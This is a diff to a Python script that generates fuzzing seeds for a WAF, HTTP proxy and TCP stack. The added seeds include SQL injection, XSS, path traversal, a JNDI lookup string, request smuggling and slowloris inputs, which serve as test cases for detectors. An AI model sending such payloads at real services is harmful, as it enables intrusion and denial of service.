@@ -9,6 +9,14 @@ with an extension, pipelined, absolute-form), first 4 bytes = chunking seed
 and limit choice (see fuzz_http_parse.c).
 OUTDIR/seclang/: a few CRS-shaped rule files (see fuzz_seclang.c).
 OUTDIR/waf_tfn/: chain header (5 bytes) + value (see fuzz_waf_tfn.c).
+OUTDIR/waf_detect/: SQL and HTML injections and benign values, raw (see
+fuzz_waf_detect.c).
+OUTDIR/tcp_connect/: active opens and relay pairs (see fuzz_tcp_connect.c).
+OUTDIR/waf_engine/: paranoia byte + a request with each body kind the WAF's
+request view parses (see fuzz_waf_engine.c).
+OUTDIR/proxy_session/: HTTP exchanges as (ctl, len, data) records on two
+connections: keep-alive, pipelining, refusals, a forwarded request, a
+slowloris head (see fuzz_proxy_session.c).
 """
 import json
 import os
@@ -36,6 +44,18 @@ def frames():
 
 
 CONFIGS = {
+    "http_proxy": {"schema": 1, "ports": [],
+                   "http": {"max-sessions-per-worker": 8, "limits": {"body": 100, "chunk": 50},
+                            "timeouts": {"header-read-ms": 500}},
+                   "listeners": [{"name": "web", "port": 80},
+                                 {"name": "adm", "port": 81, "address": "fd00::1"}],
+                   "upstreams": [{"name": "p", "balance": "least-connections",
+                                  "servers": [{"address": "10.0.0.9", "port": 80, "weight": 3},
+                                              {"address": "fd00::9", "port": 80}],
+                                  "health-check": {"path": "/h"}, "keepalive": {"max-idle": 2}}],
+                   "routes": [{"name": "r", "listener": "web", "host": "*.a.test",
+                               "path-prefix": "/x", "methods": ["GET", "POST"], "upstream": "p"},
+                              {"name": "s", "listener": "adm", "upstream": "p"}]},
     "full": {"schema": 1, "ports": [
         {"port": 0, "name": "client", "addresses": ["10.0.0.1/24", "fd00::1/64"],
          "gateway4": "10.0.0.254", "gateway6": "fe80::1", "mtu": 1500},
@@ -45,6 +65,11 @@ CONFIGS = {
         "icmp": {"echo": True}},
     "minimal": {"schema": 1, "ports": []},
     "bad_address": {"schema": 1, "ports": [{"port": 0, "addresses": ["10.0.0.300/24"]}]},
+    "impairment": {"schema": 1, "ports": [{"port": 0, "name": "client", "addresses": ["10.0.0.1/24"]}],
+                   "impairment": [{"port": "client", "direction": "both", "seed": 7,
+                                   "loss-ppm": 20000, "duplicate-ppm": 10000,
+                                   "reorder-ppm": 250000, "reorder-delay-ms": 10,
+                                   "corrupt-ppm": 1000, "rate-kbps": 100000}]},
 }
 
 
@@ -99,6 +124,31 @@ def tcp_sequences():
     yield "syn_cookie_no_ts", syn + syn1 + syn3 + rec(0x33, TCP(flags="A") / b"x") + rec(0x80, TCP(flags="A"))
 
 
+# fuzz_tcp_connect.c record: ctl, len, TCP header + payload. ctl bits: 1 seq
+# := our last ACK on the flow, 2 ack := the end of our last segment on it, 4
+# keep checksum, 0x18 flow (0 the active open, 8 a relay client, 0x10 the
+# relay's upstream, 0x18 an application step), 0x20 keep window, 0xc0 clock.
+def tcp_connect_sequences():
+    synack = rec(3, TCP(flags="SA", seq=9000, window=65535, options=SYN_OPTS))
+    step = rec(0x18, TCP())
+    yield "synack_data_close", (synack + rec(3, TCP(flags="PA") / b"hello") + step + step +
+                                rec(3, TCP(flags="FA")) + rec(3 | 0x40, TCP(flags="A")))
+    yield "refused", rec(2, TCP(flags="RA"))
+    yield "bad_ack_then_ok", rec(0, TCP(flags="SA", ack=5)) + synack + step
+    yield "syn_timeout", rec(0xc0, TCP(flags="A")) * 4
+    yield "keepalive", synack + rec(0x80, TCP(flags="A")) + rec(0x40, TCP(flags="A"))
+    client = (rec(8, TCP(seq=100, flags="S", window=65535, options=SYN_OPTS)) +
+              rec(8 | 3, TCP(flags="A", window=65535)))
+    up_synack = rec(0x10 | 3, TCP(flags="SA", seq=7000, window=65535, options=SYN_OPTS))
+    yield "relay", (client + up_synack + rec(8 | 3, TCP(flags="PA") / b"request") +
+                    rec(0x10 | 3, TCP(flags="PA") / b"response") + rec(8 | 3, TCP(flags="FA")) +
+                    rec(0x10 | 3, TCP(flags="FA")) + rec(0x40, TCP(flags="A")))
+    yield "relay_refused", client + rec(0x10 | 2, TCP(flags="RA"))
+    yield "relay_zero_window", (client + up_synack +
+                                rec(0x10 | 0x20 | 3, TCP(flags="A", window=0)) +
+                                rec(8 | 3, TCP(flags="PA") / (b"z" * 200)) + rec(0x80, TCP(flags="A")))
+
+
 SECLANG = {
     "rule": b'SecRule REQUEST_COOKIES|!REQUEST_COOKIES:/__utm/|ARGS_NAMES|ARGS|XML:/* \\\n'
             b'    "@rx (?i)union\\s+select" \\\n'
@@ -120,6 +170,79 @@ WAF_TFN = {
     "cmdline_path": bytes([3, 12, 13, 14, 15]) + b"C:\\a\\..\\b /c \"NET\" \xc3\xa9",
 }
 
+# Values for @detectSQLi / @detectXSS: one per rule family, plus benign text.
+WAF_DETECT = {
+    "sqli_tautology": b"-1839' or '1'='1",
+    "sqli_bare": b"1234 OR 1=1",
+    "sqli_union": b"foo') UNION ALL select NULL --",
+    "sqli_stacked": b"1; drop table users--",
+    "sqli_timing": b"1 and benchmark(5000000,md5(1))",
+    "sqli_waitfor": b"foo')waitfor delay'5:0:20'--",
+    "sqli_balanced": b"\" | type %SystemDrive%\\config.ini | \"",
+    "sqli_mysql_comment": b"1/*!50000union*/ /*!50000select*/ 1",
+    "xss_script": b"\"><script>alert(1)</script>",
+    "xss_event": b"x onmouseover=alert(1)",
+    "xss_url": b"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "xss_style": b"<div style=\"width: expression(alert(1))\">",
+    "xss_comment": b"<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "benign_prose": b"O'Brien's order, \"rush\" please -- thanks",
+    "benign_json": b'{"name":"O\'Brien","age":30,"html":"<b>hi</b>"}',
+    "nul": b"x'\x00or\x001=1--<img\x00 src=x onerror=alert(1)>",
+}
+
+
+def _post(ctype: bytes, body: bytes, target: bytes = b"/") -> bytes:
+    return (b"POST " + target + b" HTTP/1.1\r\nHost: a\r\nContent-Type: " + ctype +
+            b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
+
+
+# First byte: paranoia level - 1 (fuzz_waf_engine.c).
+WAF_ENGINE = {
+    "get_sqli": b"\x00GET /p?id=1%27%20union%20select%201--&safe=x HTTP/1.1\r\nHost: a\r\n"
+                b"Cookie: __utma=1; s=union select\r\nReferer: http://evil/\r\n\r\n",
+    "urlencoded": b"\x01" + _post(b"application/x-www-form-urlencoded", b"a=%3Cscript%3E&b=..%2f..%2fetc"),
+    "json": b"\x02" + _post(b"application/json", b'{"a":{"b":["x","${jndi:ldap://e/}"]},"n":1.5e3,"t":true}'),
+    "multipart": b"\x03" + _post(b"multipart/form-data; boundary=B",
+                                 b'--B\r\nContent-Disposition: form-data; name="f"; filename="x.php"\r\n'
+                                 b"Content-Type: text/plain\r\n\r\n<?php ?>\r\n--B\r\n"
+                                 b'Content-Disposition: form-data; name="v"\r\n\r\nunion select\r\n--B--\r\n'),
+    "xml": b"\x00" + _post(b"application/xml",
+                           b'<?xml version="1.0"?><r a="&lt;script&gt;"><![CDATA[union select]]><x/></r>'),
+    "no_host_refused": b"\x00GET / HTTP/1.0\r\nProxy: x\r\n\r\nGET / HTTP/3.0\r\n\r\n",
+}
+
+
+def _px(*records) -> bytes:
+    """fuzz_proxy_session.c records: (ctl, data); data split at 255 bytes."""
+    out = b""
+    for ctl, data in records:
+        while True:
+            piece, data = data[:255], data[255:]
+            out += bytes([ctl if not data else ctl & 3, len(piece)]) + piece
+            if not data:
+                break
+    return out
+
+
+PROXY_SESSION = {
+    "keepalive": _px((0, b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n"),
+                     (0, b"DELETE /api/y HTTP/1.1\r\nHost: a\r\n\r\n")),
+    "pipelined": _px((0, b"GET /1 HTTP/1.1\r\nHost: a\r\n\r\nPOST /2 HTTP/1.1\r\nHost: a\r\n"
+                         b"Content-Length: 3\r\n\r\nabcGET /3 HTTP/1.1\r\nHost: a\r\n"
+                         b"Connection: close\r\n\r\n")),
+    "split_chunked": _px((0, b"POST /u HTTP/1.1\r\nHost: a\r\nTransfer-"),
+                         (0, b"Encoding: chunked\r\n\r\n5\r\nab"), (1, b"GET / HTTP/1.1\r\n"),
+                         (0, b"cde\r\n0\r\n\r\n"), (1, b"Host: a\r\n\r\n")),
+    "smuggling": _px((0, b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n"
+                         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n")),
+    "forwarded_timeout": _px((0, b"POST /api/x HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n"
+                                 b"Expect: 100-continue\r\n\r\nhello"), (0x10, b""), (0x20, b""),
+                             (0, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")),
+    "slowloris": _px((0, b"GET / HTTP/1.1\r\n"), (0x20, b"X: 1\r\n"), (0x20, b""),
+                     (2, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), (0x30, b"")),
+    "half_close": _px((4, b"GET /api/z HTTP/1.1\r\nHost: a\r\n\r\n"), (0x20, b"")),
+}
+
 
 def main():
     out = sys.argv[1]
@@ -133,10 +256,15 @@ def main():
     for name, data in tcp_sequences():
         with open(os.path.join(out, "tcp_input", name), "wb") as f:
             f.write(data)
+    os.makedirs(os.path.join(out, "tcp_connect"), exist_ok=True)
+    for name, data in tcp_connect_sequences():
+        with open(os.path.join(out, "tcp_connect", name), "wb") as f:
+            f.write(data)
     for name, doc in CONFIGS.items():
         with open(os.path.join(out, "config_parse", name + ".json"), "w") as f:
             json.dump(doc, f)
-    for sub, seeds in (("seclang", SECLANG), ("waf_tfn", WAF_TFN)):
+    for sub, seeds in (("seclang", SECLANG), ("waf_tfn", WAF_TFN), ("waf_detect", WAF_DETECT),
+                       ("waf_engine", WAF_ENGINE), ("proxy_session", PROXY_SESSION)):
         os.makedirs(os.path.join(out, sub), exist_ok=True)
         for name, data in seeds.items():
             with open(os.path.join(out, sub, name), "wb") as f:
